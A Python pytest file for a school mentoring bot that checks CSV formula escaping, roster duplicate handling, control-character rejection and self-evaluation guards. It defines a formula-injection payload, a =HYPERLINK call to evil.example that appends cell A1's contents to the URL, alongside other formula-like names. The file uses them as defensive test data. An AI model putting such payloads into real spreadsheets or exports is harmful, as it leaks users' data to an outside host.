"""The office's files: a name that looks like a formula stays text, and a roster cannot merge two people."""
from __future__ import annotations

import csv
import io

import pytest

from bot.cli import main
from program.cells import FORMULA_STARTS
from program.invites import new_code
from program.roles import Role
from program.roster import parse_roster, read_table
from storage.models import Person, PersonRole
from tests.cli.test_office_cli import count, env  # noqa: F401 - the CLI's environment fixture

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
HEADER = "name,role,school,subject,grade,mentor,teacher\n"


def test_invite_csv_writes_a_formula_like_name_as_text(env, tmp_path, capsys):  # noqa: F811
    roster = tmp_path / "roster.csv"
    lines = [HEADER.strip(), "李明教授,mentor,山西大学,物理学,,,", "张丽,teacher,山西大学附属中学,,,,",
             f'"{EVIL.replace(chr(34), chr(34) * 2)}",student,山西大学附属中学,物理学,高一,李明教授,张丽',
             "-1+2,student,山西大学附属中学,物理学,高一,李明教授,张丽",
             "@SUM(A1),student,山西大学附属中学,物理学,高一,李明教授,张丽"]
    roster.write_text("\n".join(lines) + "\n", encoding="utf-8")
    assert main(["roster", "import", str(roster)]) == 0
    capsys.readouterr()
    assert main(["invites", "--format", "csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)], rows
    assert "'" + EVIL in cells and "'-1+2" in cells and "'@SUM(A1)" in cells  # shown as typed, never run


def test_invite_codes_never_start_like_a_formula():
    assert not [code for code in (new_code() for _ in range(3000)) if code.startswith(FORMULA_STARTS)]


def _roster(text: str, **known):  # noqa: ANN003, ANN202
    return parse_roster(read_table((HEADER + text).encode(), "r.csv"), **known)


def test_a_student_and_a_teacher_of_one_name_at_one_school_are_two_people():
    roster = _roster("李明教授,mentor,山西大学,物理学,,,\n王伟,teacher,山西大学附属中学,,,,\n"
                     "王伟,student,山西大学附属中学,物理学,高一,李明教授,王伟\n"
                     "刘洋,student,山西大学附属中学,物理学,高一,李明教授,王伟\n")
    assert [(e.row, e.params["other"]) for e in roster.errors] == [(4, 3)]
    assert "two different people" in roster.errors[0].message.lower()
    assert [(r.name, r.role) for r in roster.rows] == [("李明教授", Role.MENTOR), ("王伟", Role.TEACHER),
                                                       ("刘洋", Role.STUDENT)]  # the rest imports


def test_a_later_file_cannot_merge_a_student_into_a_teacher_already_imported():
    known = {"known_teachers": {("王伟", "山西大学附属中学")}, "known_mentors": {("李明教授", "山西大学")},
             "known_roles": {("王伟", "山西大学附属中学"): {Role.TEACHER}, ("李明教授", "山西大学"): {Role.MENTOR},
                             ("刘洋", "山西大学附属中学"): {Role.STUDENT}}}
    roster = _roster("王伟,student,山西大学附属中学,物理学,高一,李明教授,王伟\n"
                     "刘洋,teacher,山西大学附属中学,,,,\n李明教授,teacher,山西大学,,,,\n", **known)
    assert [e.row for e in roster.errors] == [2, 3]
    assert [(r.name, r.role) for r in roster.rows] == [("李明教授", Role.TEACHER)]  # staff roles still add up


def test_the_cli_reports_the_second_wang_wei_and_imports_the_rest(env, tmp_path, capsys):  # noqa: F811
    roster = tmp_path / "roster.csv"
    roster.write_text(HEADER + "李明教授,mentor,山西大学,物理学,,,\n王伟,teacher,附中,,,,\n"
                      "王伟,student,附中,物理学,高一,李明教授,王伟\n刘洋,student,附中,物理学,高一,李明教授,王伟\n",
                      encoding="utf-8")
    assert main(["roster", "import", str(roster)]) == 1
    err = capsys.readouterr().err
    assert "第 4 行" in err and "两个不同的人" in err and "王伟A" in err, err
    assert count(env, Person) == 3 and count(env, PersonRole) == 3


def test_roster_cells_with_control_characters_are_row_errors(env, tmp_path, capsys):  # noqa: F811
    roster = tmp_path / "roster.csv"
    roster.write_text(HEADER + "李明教授,mentor,山西大学,物理学,,,\n张丽,teacher,附中,,,,\n"
                      "王小\x00明,student,附中,物理学,高一,李明教授,张丽\n刘\u202eyang,student,附中,物理学,高一,李明教授,张丽\n"
                      "孙悦,student,附\x07中,物理学,高一,李明教授,张丽\n刘洋,student,附中,物理学,高一,李明教授,张丽\n",
                      encoding="utf-8")
    assert main(["roster", "import", str(roster)]) == 1  # row errors, not a traceback
    err = capsys.readouterr().err
    assert "第 4 行" in err and "第 5 行" in err and "第 6 行" in err and "Traceback" not in err, err
    assert count(env, Person) == 3


async def test_a_mentor_who_is_also_a_student_never_evaluates_themself(engine, services, clock):
    """The mentor relation is guarded like the teacher's: no self-supervision, so no evaluation of oneself."""
    from sqlalchemy import func, select

    from storage.models import Evaluation, PersonRole, Supervision
    from tests.conftest import at
    from tests.helpers import joined

    clock.set(at("2026-04-03 10:00"))  # the 初期评价 window is open
    async with services.sessions() as session, session.begin():
        li = (await session.execute(select(Person).where(Person.name == "李明教授"))).unique().scalar_one()
        session.add(PersonRole(person_id=li.id, role="student"))
        li.subject, li.grade = "物理学", "高一"
    both = await joined(engine, services, "李明教授", 2001)
    await both.press(payload=f"ev:open:initial:{li.id}")
    assert both.outcomes[-1] == "refused" and "只能查看自己指导的学生" in (both.toasts[-1] or "")
    async with services.sessions() as session:
        assert (await session.execute(select(func.count()).select_from(Evaluation))).scalar_one() == 0
    with pytest.raises(Exception, match="(?i)check|constraint"):
        async with services.sessions() as session, session.begin():
            session.add(Supervision(student_id=li.id, supervisor_id=li.id, relation="mentor"))


async def test_a_person_who_is_both_student_and_teacher_never_confirms_their_own_log(engine, services):
    """Whatever roles a record ends up with (an old import, a hand edit), nobody approves their own work."""
    from sqlalchemy import select

    from storage.models import GrowthLog, PersonRole, Supervision
    from tests.helpers import joined
    from tests.security.test_races import file_log

    async with services.sessions() as session, session.begin():
        zhang = (await session.execute(select(Person).where(Person.name == "张丽"))).unique().scalar_one()
        session.add(PersonRole(person_id=zhang.id, role="student"))
        zhang.subject, zhang.grade = "物理学", "高一"
    both = await joined(engine, services, "张丽", 3001)
    log_id = await file_log(both)
    await both.send("/confirm")
    assert "没有待确认" in both.last, both.last
    await both.press(payload=f"tch:ok:{log_id}:9999999999")
    async with services.sessions() as session:
        assert (await session.get(GrowthLog, log_id)).status == "submitted"
    with pytest.raises(Exception, match="(?i)check|constraint"):
        async with services.sessions() as session, session.begin():
            session.add(Supervision(student_id=zhang.id, supervisor_id=zhang.id, relation="teacher"))
